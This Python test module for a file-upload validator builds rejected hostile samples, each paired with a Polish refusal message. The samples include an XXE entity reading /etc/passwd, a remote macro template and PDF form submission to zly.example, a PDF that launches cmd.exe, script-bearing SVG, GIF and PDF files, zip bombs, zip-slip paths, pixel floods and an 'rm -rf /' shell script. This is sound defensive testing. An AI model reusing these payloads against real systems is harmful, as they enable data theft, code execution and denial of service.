"""Files that nobody should take, each with the sentence that refuses it; all of them are made here, none is large."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from kuznia.files.kinds import ContentType
from kuznia.files.tests import factories

NOT_TAKEN = (
    "Przyjmujemy dokumenty (PDF, DOCX, XLSX, PPTX, ODT, ODS, ODP), zdjęcia (JPEG, PNG) i nagrania "
    "(MP3, M4A, OGG, MP4, WebM). Zapisz plik w jednym z tych formatów i wyślij go jeszcze raz."
)
BROKEN = "Ten plik się nie otwiera. Zapisz go jeszcze raz i wyślij ponownie."
EMPTY = "Ten plik jest pusty. Sprawdź go i wyślij jeszcze raz."
TWO_THINGS = "Ten plik jest naraz dwoma rodzajami pliku. Zapisz go jeszcze raz jako jeden z nich."
TOO_MANY_PIXELS = "To zdjęcie ma więcej niż 40 milionów pikseli. Zmniejsz je i wyślij jeszcze raz."
TOO_HEAVY = (
    "To zdjęcie zajmuje po otwarciu za dużo pamięci. Zmniejsz je do 8 milionów pikseli i wyślij jeszcze raz."
)
TOO_MUCH = (
    "Ten plik po rozpakowaniu jest o wiele większy. Zapisz go jeszcze raz bez tego, co jest w nim ukryte."
)
MACROS = "Ten plik ma makra. Zapisz go bez nich i wyślij jeszcze raz."
ARCHIVE = "W tym pliku jest archiwum. Wyjmij je i wyślij plik jeszcze raz."
PROGRAM = "W tym pliku jest inny plik albo program. Wyjmij go i wyślij plik jeszcze raz."
ENTITIES = (
    "Ten plik każe temu, kto go otwiera, sięgać do innych plików. Zapisz go jeszcze raz i wyślij ponownie."
)
PASSWORD = "Ten plik ma hasło. Zapisz go bez hasła i wyślij jeszcze raz."
SCRIPT = (
    "Ten PDF robi coś sam, gdy się go otwiera: ma skrypt, formularz wysyłający dane albo plik w środku. "
    "Wydrukuj go do nowego PDF-a i wyślij ten nowy."
)
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
TEMPLATE = b'<Relationship Id="r" Type="x/attachedTemplate" Target="https://zly.example/x.dotm" TargetMode="External"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def text_picture() -> bytes:
    """A PNG whose text unpacks to more than any caption."""
    target, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_text("bomb", "x" * 5_000_000, zip=True)
    Image.new("1", (1, 1)).save(target, "PNG", pnginfo=info)
    return target.getvalue()


def png_part(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def flood(width: int, height: int, colours: int = 2) -> bytes:
    """A PNG of a few bytes that says it is that large."""
    head = png_part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colours, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + png_part(b"IDAT", zlib.compress(b"")) + png_part(b"IEND", b"")


def many_scans() -> bytes:
    """A progressive JPEG that asks for the whole picture a hundred times."""
    made = factories.picture("JPEG", (64, 64), progressive=True)
    last = made.rindex(b"\xff\xda")
    return made[:last] + made[last:-2] * 100 + made[-2:]


def patched(content: bytes, position_of: bytes, offset: int, value: bytes) -> bytes:
    at = content.index(position_of) + offset
    return content[:at] + value + content[at + len(value) :]


def locked_docx() -> bytes:
    content = patched(factories.docx(), b"PK\x03\x04", 6, b"\x01")
    return patched(content, b"PK\x01\x02", 8, b"\x01")


def damaged_docx() -> bytes:
    content = factories.archive(
        {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"},
        compression=zipfile.ZIP_STORED,
    )
    return content.replace(b"<document/>", b"<ducoment/>")


def macro_docx() -> bytes:
    """A DOCM whose macro part has another name."""
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return factories.archive(
        {"[Content_Types].xml": types, "word/document.xml": b"x", "word/other.bin": b"x"}
    )


def chart_bomb() -> bytes:
    """A chart whose own workbook unpacks to far too much."""
    inner = factories.archive({"[Content_Types].xml": b"x", "xl/workbook.xml": b"0" * 3_000_000})
    return factories.pptx(chart=inner)


def pdf(objects: bytes) -> bytes:
    return factories.PDF.replace(b"endobj", b"endobj\n2 0 obj" + objects + b"endobj")


def packed_pdf(
    objects: bytes, *, words: bytes = b"/Filter/FlateDecode", packed: bytes | None = None
) -> bytes:
    """A PDF whose second object lies in a packed list of objects."""
    inside = zlib.compress(b"3 0 " + objects) if packed is None else packed
    return pdf(b"<</Type/ObjStm/N 1/First 4" + words + b">>stream\n" + inside + b"\nendstream ")


SCRIPTED = b"<</S/JavaScript/JS(app.alert(1))>>"
PICTURES = {
    "gif with a script": (b"GIF89a/*\x01\0\x01\0\0\0\0*/=1;alert(1)//;", NOT_TAKEN),
    "webp": (factories.picture("WEBP"), NOT_TAKEN),
    "tiff": (factories.picture("TIFF", mode="RGB"), NOT_TAKEN),
    "bmp": (factories.picture("BMP", mode="RGB"), NOT_TAKEN),
    "icon": (b"\0\0\1\0\1\0" + bytes(60), NOT_TAKEN),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NOT_TAKEN),
    "svg with a head": (b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', NOT_TAKEN),
    "jpeg with a zip behind": (factories.picture("JPEG") + factories.docx(), TWO_THINGS),
    "png with a zip behind": (factories.picture("PNG") + factories.archive({"a": b"a"}), TWO_THINGS),
    "cut png": (factories.picture("PNG")[:40], BROKEN),
    "cut jpeg": (factories.picture("JPEG", (300, 300))[:400], BROKEN),
    "jpeg without an end": (factories.picture("JPEG", (300, 300))[:-2], BROKEN),
    "jpeg of two bytes": (b"\xff\xd8\xff", BROKEN),
    "jpeg with a part beyond the end": (b"\xff\xd8\xff\xe0\xff\xffJFIF\0" + bytes(40), BROKEN),
    "png in name only": (b"\x89PNG\r\n\x1a\n" + bytes(50), BROKEN),
    "png of nothing": (flood(10, 10), BROKEN),
    "png with a text bomb": (text_picture(), BROKEN),
    "jpeg of a hundred scans": (many_scans(), BROKEN),
    "pixel flood": (factories.picture("PNG", (8_000, 5_001)), TOO_MANY_PIXELS),
    "pixel flood past Pillow's own limit": (flood(20_000, 20_000), TOO_MANY_PIXELS),
    "pixel flood of one line": (flood(400_000_000, 1), TOO_MANY_PIXELS),
    "heavy png": (flood(5_000, 3_000, 6), TOO_HEAVY),
    "heavy jpeg": (factories.picture("JPEG", (5_000, 4_000), progressive=True), TOO_HEAVY),
}  # fmt: skip
OFFICE = {
    "plain zip": (factories.archive({"a.txt": b"a"}), NOT_TAKEN),
    "empty zip": (factories.archive({}), NOT_TAKEN),
    "old word": (OLE, NOT_TAKEN),
    "rtf": (b"{\\rtf1{\\object\\objdata 0105}}", NOT_TAKEN),
    "odt of another type": (
        factories.archive({"mimetype": b"application/epub+zip", "content.xml": b"<x/>"}), NOT_TAKEN),
    "zip bomb in a docx": (factories.docx(bomb=b"0" * 5_000_000), TOO_MUCH),
    "zip bomb in an odt": (factories.open_document(bomb=b"0" * 5_000_000), TOO_MUCH),
    "zip bomb in the workbook of a chart": (chart_bomb(), TOO_MUCH),
    "too many parts": (factories.docx(**{f"p{n}": b"" for n in range(2_000)}), TOO_MUCH),
    "zip slip": (factories.docx(**{"..__..__etc__passwd": b"x"}), BROKEN),
    "absolute part": (factories.docx(__etc__passwd=b"x"), BROKEN),
    "windows part": (factories.docx(**{"C:\\x": b"x"}), BROKEN),
    "macros": (factories.docx(word__vbaProject_dot_bin=b"x"), MACROS),
    "macros by another name": (macro_docx(), MACROS),
    "macros of an odt": (factories.open_document(Basic__Standard__Module1=b"x"), MACROS),
    "controls": (factories.docx(word__activeX__activeX1_dot_xml=b"x"), MACROS),
    "archive inside": (factories.docx(word__inner_dot_zip=factories.archive({"a": b"a"})), ARCHIVE),
    "archive as a picture": (factories.docx(word__media__a_dot_png=factories.archive({"a": b"a"})), ARCHIVE),
    "workbook in a workbook": (factories.pptx(a=factories.pptx(b=factories.xlsx())), ARCHIVE),
    "object inside": (factories.docx(word__embeddings__oleObject1_dot_bin=OLE), PROGRAM),
    "program inside": (factories.docx(word__media__a_dot_jpg=b"MZ" + bytes(99)), PROGRAM),
    "foreign entity": (factories.docx(word__footer_dot_xml=XXE), ENTITIES),
    "foreign entity in another alphabet": (
        factories.docx(word__footer_dot_xml=XXE.decode().encode("utf-16")), ENTITIES),
    "foreign entity in an odt": (factories.open_document(styles=XXE), ENTITIES),
    "foreign entity behind a megabyte": (
        factories.archive({"[Content_Types].xml": b"x", "word/document.xml": b"x" * (1 << 20) + XXE},
                          compression=zipfile.ZIP_STORED), ENTITIES),
    "template from elsewhere": (factories.docx(word___rels__settings_dot_xml_dot_rels=TEMPLATE), ENTITIES),
    "password": (locked_docx(), PASSWORD),
    "damaged part": (damaged_docx(), BROKEN),
    "cut docx": (factories.docx()[:60], BROKEN),
    "rare compression": (
        factories.archive({"[Content_Types].xml": b"x", "word/document.xml": b"x"}, compression=zipfile.ZIP_LZMA),
        BROKEN),
}  # fmt: skip
PDFS = {
    "script before the pdf": (b"<script></script>" + factories.PDF, NOT_TAKEN),
    "cut pdf": (factories.PDF[:30], BROKEN),
    "pdf with a zip behind": (factories.PDF + factories.archive({"a": b"a"}), TWO_THINGS),
    "pdf with a page of script behind": (factories.PDF + b"<script>alert(1)</script>" * 60, BROKEN),
    "pdf with a script": (pdf(SCRIPTED), SCRIPT),
    "pdf with a disguised script": (pdf(b"<</S/J#61vaScr#69pt/JS(x)>>"), SCRIPT),
    "pdf with a script in a list": (packed_pdf(SCRIPTED), SCRIPT),
    "pdf with a script in a damaged list": (
        packed_pdf(b"", packed=zlib.compress(b"3 0 " + SCRIPTED)[:-4] + b"abcd"), SCRIPT),
    "pdf with a script in a cut list": (
        packed_pdf(b"", packed=zlib.compress(b"3 0 " + SCRIPTED + b"z" * 500)[:-8]), SCRIPT),
    "pdf with a list packed twice": (packed_pdf(SCRIPTED, words=b"/Filter[/ASCIIHexDecode/FlateDecode]"), BROKEN),
    "pdf with an odd list": (packed_pdf(b"", words=b"/Filter/LZWDecode", packed=b"xyz"), BROKEN),
    "pdf with a list beyond bounds": (packed_pdf(b"0 " * 11_000_000), TOO_MUCH),
    "pdf that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), SCRIPT),
    "pdf that sends a form": (pdf(b"<</S /SubmitForm/F(https://zly.example)>>"), SCRIPT),
    "pdf with a file inside": (pdf(b"<</Type/EmbeddedFile/Length 1>>"), SCRIPT),
    "pdf with an attachment": (pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), SCRIPT),
    "pdf with a form of Adobe": (pdf(b"<</AcroForm<</XFA 7 0 R>>>>"), SCRIPT),
    "pdf with a password": (
        factories.PDF.replace(b"startxref", b"trailer<</Size 2/Encrypt 3 0 R>>startxref"), PASSWORD),
}  # fmt: skip
RECORDINGS = {
    "cut mp4": (factories.mp4(sound=bytes(500))[:-9], BROKEN),
    "mp4 without a film": (factories.box(b"ftyp", b"isom\0\0\2\0isommp42") + factories.box(b"free"), BROKEN),
    "mp4 of endless boxes": (factories.mp4() + factories.box(b"free") * 50_001, BROKEN),
    "mp4 with a box of no size": (factories.mp4() + b"\0\0\0\4free", BROKEN),
    "mp4 with a zip behind": (factories.mp4() + factories.archive({"a": b"a"}), TWO_THINGS),
    "photo of a phone": (factories.box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(60), NOT_TAKEN),
    "film of QuickTime": (factories.mp4(b"qt  "), NOT_TAKEN),
    "cut mp3": (factories.MP3[:900], BROKEN),
    "mp3 in name only": (b"ID3\4\0\0\0\0\0\x0a" + bytes(900), BROKEN),
    "mp3 of odd frames": (b"ID3\4\0\0\0\0\0\0" + b"\xff\xeb\x90\0" + bytes(900), BROKEN),
    "cut ogg": (factories.ogg()[:-3], BROKEN),
    "ogg with a tail": (factories.ogg() + b"<script>", BROKEN),
    "film in ogg": (factories.ogg(b"\x80theora\3\2"), NOT_TAKEN),
    "matroska": (factories.webm(b"matroska"), NOT_TAKEN),
    "cut webm": (factories.webm(inside=bytes(40))[:-5], BROKEN),
    "webm of nothing": (factories.webm()[:-8] + b"\0" * 8, BROKEN),
    "flac": (b"fLaC" + bytes(60), NOT_TAKEN),
    "wav": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), NOT_TAKEN),
}  # fmt: skip
OTHERS = {
    "text": (b"hello", NOT_TAKEN),
    "one byte": (b"P", NOT_TAKEN),
    "html": (b"<!doctype html><script>alert(1)</script>", NOT_TAKEN),
    "program": (b"MZ" + bytes(200), NOT_TAKEN),
    "elf": (b"\x7fELF" + bytes(200), NOT_TAKEN),
    "script of a shell": (b"#!/bin/sh\nrm -rf /\n", NOT_TAKEN),
    "gzip": (b"\x1f\x8b\x08\0" + bytes(60), NOT_TAKEN),
    "rar": (b"Rar!\x1a\x07\0" + bytes(60), NOT_TAKEN),
    "e-mail": (b"From: a@b\r\nSubject: x\r\n\r\nx", NOT_TAKEN),
}  # fmt: skip
EVIL = PICTURES | OFFICE | PDFS | RECORDINGS | OTHERS
SOUND = {
    "pdf": (factories.PDF, ContentType.PDF),
    "pdf with a link": (pdf(b"<</S/URI/URI(https://example.org/Web/JavaScript)>>"), ContentType.PDF),
    "pdf with a list": (packed_pdf(b"<</Type/Page>>"), ContentType.PDF),
    "pdf with a picture": (pdf(b"<</Length 9>>stream\n\xff\xd8\xff\xe0abcde\nendstream "), ContentType.PDF),
    "pdf with a packed picture": (pdf(b"<<>>stream\n" + zlib.compress(b"\xffabc") + b"\nendstream "), ContentType.PDF),
    "png": (factories.picture("PNG"), ContentType.PNG),
    "png of sixteen bits": (factories.picture("PNG", mode="I;16"), ContentType.PNG),
    "jpeg": (factories.picture("JPEG"), ContentType.JPEG),
    "progressive jpeg": (factories.picture("JPEG", (60, 60), progressive=True), ContentType.JPEG),
    "jpeg for print": (factories.picture("JPEG", mode="CMYK"), ContentType.JPEG),
    "odt": (factories.open_document(), ContentType.ODT),
    "ods": (factories.open_document(ContentType.ODS), ContentType.ODS),
    "odp": (factories.open_document(ContentType.ODP), ContentType.ODP),
    "docx": (factories.docx(), ContentType.DOCX),
    "docx with a local template": (
        factories.docx(word___rels__a_dot_rels=TEMPLATE.replace(b"https:", b"file:")), ContentType.DOCX),
    "xlsx": (factories.xlsx(), ContentType.XLSX),
    "pptx": (factories.pptx(), ContentType.PPTX),
    "pptx with a chart": (factories.pptx(chart=factories.xlsx()), ContentType.PPTX),
    "mp3": (factories.MP3, ContentType.MP3),
    "mp3 of low quality": ((b"\xff\xf3\x90\0" + bytes(257)) * 4, ContentType.MP3),
    "mp3 with a title": (b"ID3\4\0\0\0\0\0\x0a" + bytes(10) + factories.MP3, ContentType.MP3),
    "m4a": (factories.mp4(b"M4A "), ContentType.M4A),
    "mp4": (factories.mp4(), ContentType.MP4),
    "mp4 with long boxes": (
        factories.mp4() + struct.pack(">I4sQ", 1, b"free", 20) + b"1234" + b"\0\0\0\0mdat123", ContentType.MP4),
    "ogg": (factories.ogg(), ContentType.OGG),
    "webm": (factories.webm(), ContentType.WEBM),
    "webm of unknown length": (
        factories.webm().replace(b"\x18\x53\x80\x67\x83", b"\x18\x53\x80\x67\xff"), ContentType.WEBM),
}  # fmt: skip
